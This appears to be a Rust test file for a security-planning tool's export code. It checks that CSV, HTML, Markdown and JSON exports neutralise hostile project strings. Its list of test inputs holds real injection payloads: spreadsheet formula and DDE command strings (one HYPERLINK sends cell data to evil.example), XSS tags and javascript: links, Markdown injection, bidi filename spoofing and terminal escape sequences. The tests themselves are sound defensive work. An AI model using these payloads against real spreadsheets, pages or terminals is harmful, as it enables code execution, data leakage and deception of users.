//! Exports of a project full of hostile strings cannot be turned against their reader: CSV cells
//! never start a formula, HTML has no markup but ours, Markdown has no raw HTML, no links and no
//! structure broken by line breaks; JSON keeps every string exactly.
//!
//! Each check compares the hostile project's export with that of a "tame" twin (the same
//! project with every user string replaced by plain text): a hostile string that added any
//! structure (a CSV row, an HTML tag, a Markdown line) would make the two differ in shape.

mod common;
use common::*;
use srm_planner::catalog::Catalog;
use srm_planner::checklist;
use srm_planner::export;
use srm_planner::project::{Project, TodoState};
use srm_planner::vocab::{DataClass, Status};

const INJECT: &str =
    "line one\n- [x] INJECTED item\n# INJECTED heading\n| INJECTED | table |\n\n<div>INJECTED</div>";

/// The hostile strings, each of which a naive export would let act on the reader.
fn hostile() -> Vec<String> {
    vec![
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")".into(),
        "+cmd|' /C calc'!A0".into(),
        "-2+3+cmd|' /C calc'!A0".into(),
        "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        "\t=1+1".into(),
        "\r=1+1".into(),
        "<script>alert('x')</script>".into(),
        "<img src=x onerror=alert(1)>".into(),
        "\"><svg onload=alert(1)>".into(),
        "[click me](javascript:alert(1))".into(),
        "x](javascript:alert(1))".into(),
        INJECT.into(),
        "\u{202E}gnp.exe\u{202D} rtl \u{200F}mark \u{2066}isolate\u{2069}".into(),
        "&lt;already escaped&gt; &amp; & ampersand".into(),
        "`code` **bold** _em_ ![img](http://x/y.png) <http://autolink> <!-- comment".into(),
        format!("{}{}", "A<".repeat(5000), "B"), // 10 KB
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31mred\u{9b}1m\u{7f} \u{2028}sep".into(),
    ]
}

/// A project whose name, description, labels, services, variants, assignees and notes are the
/// strings `s(i)` gives; `tame` makes its twin.
fn build(s: impl Fn(usize) -> String) -> Project {
    let n = hostile().len();
    let services = ["ec2", "s3", "rds", "lambda", "ecs", "dynamodb"];
    let mut comps = Vec::new();
    for i in 0..n {
        let mut c = comp(i as u64 + 1, services[i % services.len()], &s(i));
        c.notes = s(n - 1 - i);
        c.internet_facing = i.is_multiple_of(2);
        c.data = if i.is_multiple_of(3) { DataClass::Regulated } else { DataClass::Internal };
        comps.push(c);
    }
    // An unknown service and an unknown variant: their ids end up in the problem list.
    let mut unknown = comp(100, &s(6), &s(7));
    unknown.variant = Some(s(8));
    comps.push(unknown);
    let mut bad_variant = comp(101, "ecs", &s(11));
    bad_variant.variant = Some(s(9));
    comps.push(bad_variant);
    let links = (1..n as u64).map(|i| link(i, i + 1, i.is_multiple_of(2))).collect();
    let mut p = project(comps, links);
    p.name = format!("{} {}", s(0), s(6));
    p.description = s(11);
    let items = checklist::build(Catalog::builtin(), &p).items;
    assert!(items.len() > n, "the project should have enough checklist items");
    for (i, item) in items.iter().enumerate() {
        let status = [Status::Open, Status::InProgress, Status::Done, Status::NotApplicable][i % 4];
        p.set_todo_state(item.id(), TodoState { status, assignee: s(i % n), note: s((i + 5) % n) });
    }
    p
}

fn hostile_project() -> Project {
    let h = hostile();
    build(|i| h[i].clone())
}

fn tame_project() -> Project {
    build(|i| format!("plain{i}"))
}

// ------------------------------------------------------------------------------------------

fn parse_csv(text: &str) -> Vec<csv::StringRecord> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    r.records().map(|x| x.expect("the CSV parses")).collect()
}

#[test]
fn csv_cells_never_start_a_formula_and_keep_the_text() {
    let cat = Catalog::builtin();
    let (p, tame) = (hostile_project(), tame_project());
    let rows = parse_csv(&export::csv(cat, &p));
    let tame_rows = parse_csv(&export::csv(cat, &tame));
    assert_eq!(rows.len(), tame_rows.len(), "hostile strings changed the number of rows");
    let header = &rows[0];
    let col =
        |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no `{name}` column"));
    let (id, assignee, note) = (col("id"), col("assignee"), col("note"));
    for (r, row) in rows.iter().enumerate() {
        assert_eq!(row.len(), header.len(), "row {r} has a different number of cells");
        for (c, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "row {r}, column {}: cell starts a formula: {:?}",
                &header[c],
                cell.chars().take(60).collect::<String>()
            );
        }
    }
    // The assignee and note cells hold the user's text, with only the apostrophe added.
    let expect = |s: &str| {
        let s = srm_planner::text::sanitize(s, srm_planner::text::Lines::Keep);
        if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.into_owned() }
    };
    let mut checked = 0;
    for row in &rows[1..] {
        let state = p.todo_state(&row[id]);
        assert_eq!(row[assignee], expect(&state.assignee), "{}", &row[id]);
        assert_eq!(row[note], expect(&state.note), "{}", &row[id]);
        checked += 1;
    }
    assert!(checked > hostile().len());
}

// ------------------------------------------------------------------------------------------

fn tag_count(html: &str) -> usize {
    html.matches('<').count()
}

#[test]
fn html_has_no_markup_but_its_own_and_every_string_is_escaped() {
    let cat = Catalog::builtin();
    let html = export::html(cat, &hostile_project());
    let tame = export::html(cat, &tame_project());
    let lower = html.to_lowercase();
    for bad in ["<script", "<img", "<div>injected", "<!-- comment", "javascript:alert(1))\"", "<http"] {
        assert!(!lower.contains(bad), "raw `{bad}` in the HTML");
    }
    assert_eq!(lower.matches("<svg").count(), 1, "one <svg>: the diagram's own");
    assert_eq!(tag_count(&html), tag_count(&tame), "a hostile string added markup");
    assert_eq!(html.matches('>').count(), tame.matches('>').count(), "a hostile string added markup");
    for s in hostile() {
        if s.contains(['<', '>', '&']) {
            let escaped = html_escape::encode_text(&s).into_owned();
            assert!(html.contains(&escaped) || !html.contains(&s[..s.len().min(20)]), "{s:?}");
        }
    }
    // Every hostile label shows up, escaped.
    assert!(html.contains("&lt;script&gt;alert('x')&lt;/script&gt;"));
    assert!(html.contains(&"A&lt;".repeat(5000)));
    assert!(
        html.contains("&amp;lt;already escaped&amp;gt;"),
        "an already-escaped string must be escaped again"
    );
}

#[test]
fn html_does_not_let_bidirectional_controls_reorder_the_page() {
    let html = export::html(Catalog::builtin(), &hostile_project());
    for c in [
        '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}',
        '\u{2069}',
    ] {
        assert!(!html.contains(c), "raw bidirectional control U+{:04X} in the HTML", c as u32);
    }
}

// ------------------------------------------------------------------------------------------

#[test]
fn markdown_has_no_raw_html_no_links_and_no_broken_structure() {
    let cat = Catalog::builtin();
    let md = export::markdown(cat, &hostile_project());
    let tame = export::markdown(cat, &tame_project());
    // No raw `<` (so no HTML, no autolink, no comment): every one is backslash-escaped. No link
    // or image: every `]` before a `(` is escaped, so `[text](url)` cannot form.
    // Code spans show their text literally, so only the text outside them counts.
    let md_out = outside_code_spans(&md);
    let escaped =
        |i: usize| md_out.as_bytes()[..i].iter().rev().take_while(|b| **b == b'\\').count() % 2 == 1;
    for (i, _) in md_out.match_indices('<') {
        assert!(escaped(i), "raw `<` at byte {i}: {:?}", &md_out[i.saturating_sub(30)..i + 10]);
    }
    for (i, _) in md_out.match_indices("](") {
        assert!(escaped(i), "link syntax at byte {i}: {:?}", &md_out[i.saturating_sub(40)..i + 30]);
    }
    // Line breaks in user strings do not start items, headings or table rows.
    assert_eq!(md.lines().count(), tame.lines().count(), "a hostile string added lines");
    for line in md.lines().filter(|l| l.contains("INJECTED")) {
        assert!(line.contains("line one"), "injected text started its own line: {line:?}");
        let t = line.trim_start();
        assert!(!t.starts_with("INJECTED") && !t.starts_with("# INJECTED") && !t.starts_with("| INJECTED"));
    }
    // Table rows keep their cell count: a `|` in a label is escaped.
    let cells = |text: &str| -> Vec<usize> {
        text.lines()
            .filter(|l| l.starts_with('|'))
            .map(|l| l.matches('|').count() - l.matches("\\|").count())
            .collect()
    };
    assert_eq!(cells(&md), cells(&tame));
    for c in ['\u{202D}', '\u{202E}', '\u{2066}', '\u{2069}'] {
        assert!(!md.contains(c), "raw bidirectional control U+{:04X} in the Markdown", c as u32);
    }
    assert!(md.contains(&"A\\<".repeat(5000)), "the 10 KB label is kept, escaped");
}

// ------------------------------------------------------------------------------------------

#[test]
fn json_keeps_every_string_exactly_and_parses() {
    let p = hostile_project();
    let json = export::json(Catalog::builtin(), &p);
    let v: serde_json::Value = serde_json::from_str(&json).expect("the JSON parses");
    fn strings<'a>(v: &'a serde_json::Value, out: &mut Vec<&'a str>) {
        match v {
            serde_json::Value::String(s) => out.push(s),
            serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
            serde_json::Value::Object(o) => o.iter().for_each(|(k, x)| {
                out.push(k);
                strings(x, out)
            }),
            _ => {}
        }
    }
    let mut all = Vec::new();
    strings(&v, &mut all);
    for s in hostile() {
        assert!(
            all.iter().any(|x| x.contains(s.as_str())),
            "{:?} is not in the JSON unchanged",
            &s[..s.len().min(40)]
        );
    }
}

#[test]
fn hostile_project_files_survive_save_and_load() {
    let p = hostile_project();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.ron");
    srm_planner::project::save_file(&path, &p).unwrap();
    assert_eq!(srm_planner::project::load_file(&path).unwrap().project, p);
}

// ------------------------------------------------------------------------------------------

/// Characters that act on a terminal or reorder text: controls (C0, DEL, C1), bidirectional
/// formatting, line and paragraph separators. `layout` lists the ones a format may use itself.
fn raw_unsafe(text: &str, layout: &[char]) -> Vec<(usize, char)> {
    text.char_indices()
        .filter(|(_, c)| {
            !layout.contains(c)
                && (c.is_control()
                    || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}'))
        })
        .collect()
}

#[test]
fn no_export_carries_terminal_escapes_or_bidi_controls() {
    let cat = Catalog::builtin();
    let p = hostile_project();
    for (name, text, layout) in [
        ("markdown", export::markdown(cat, &p), &['\n'][..]),
        ("csv", export::csv(cat, &p), &['\n', '\r', '\t'][..]),
        ("html", export::html(cat, &p), &['\n', '\t'][..]),
        ("json", export::json(cat, &p), &['\n'][..]),
    ] {
        let bad = raw_unsafe(&text, layout);
        assert!(bad.is_empty(), "{name}: raw {:?}", &bad[..bad.len().min(5)]);
    }
    // The escape is visible, not silently dropped.
    assert!(export::csv(cat, &p).contains("\\u{1b}]0;owned"));
    assert!(export::html(cat, &p).contains("\\u{1b}[2J"));
}

/// The Markdown text with the contents of every code span (CommonMark: a run of n backticks up
/// to the next run of exactly n) replaced by `X`, line by line.
fn outside_code_spans(md: &str) -> String {
    let mut out = String::new();
    for line in md.lines() {
        let b = line.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'\\' && i + 1 < b.len() {
                out.push_str(&line[i..i + 2]);
                i += 2;
                continue;
            }
            if b[i] != b'`' {
                let c = line[i..].chars().next().unwrap();
                out.push(c);
                i += c.len_utf8();
                continue;
            }
            let n = b[i..].iter().take_while(|c| **c == b'`').count();
            // Find the closing run of exactly n backticks.
            let mut j = i + n;
            let mut close = None;
            while j < b.len() {
                if b[j] == b'`' {
                    let m = b[j..].iter().take_while(|c| **c == b'`').count();
                    if m == n {
                        close = Some(j);
                        break;
                    }
                    j += m;
                } else {
                    j += 1;
                }
            }
            match close {
                Some(j) => {
                    out.push('X');
                    i = j + n;
                }
                None => {
                    out.push_str(&line[i..i + n]);
                    i += n;
                }
            }
        }
        out.push('\n');
    }
    out
}

#[test]
fn markdown_description_cannot_open_blocks_and_urls_do_not_autolink() {
    let cat = Catalog::builtin();
    for desc in [
        "# INJECTED heading",
        "- [x] INJECTED task",
        "1. INJECTED list",
        "> INJECTED quote",
        "    INJECTED code",
        "---",
        "+ INJECTED",
    ] {
        let mut p = tame_project();
        p.description = desc.into();
        let md = export::markdown(cat, &p);
        let line = md.lines().nth(2).unwrap();
        assert!(line.contains("INJECTED") || desc == "---", "{md}");
        let t = line.trim_start();
        assert!(
            t.starts_with('\\') || t.starts_with("1\\.") || t.starts_with("INJECTED"),
            "the description opens a block: {line:?}"
        );
        assert!(!line.starts_with(' '), "{line:?}");
    }
    let mut p = tame_project();
    p.components[0].label =
        "see https://evil.example/login and www.evil.example or admin@evil.example".into();
    p.description = "http://evil.example/desc".into();
    let md = export::markdown(cat, &p);
    let out = outside_code_spans(&md);
    assert!(!out.contains("evil.example"), "a URL outside a code span would autolink:\n{md}");
    assert!(md.contains("`https://evil.example/login`"), "{md}");
}
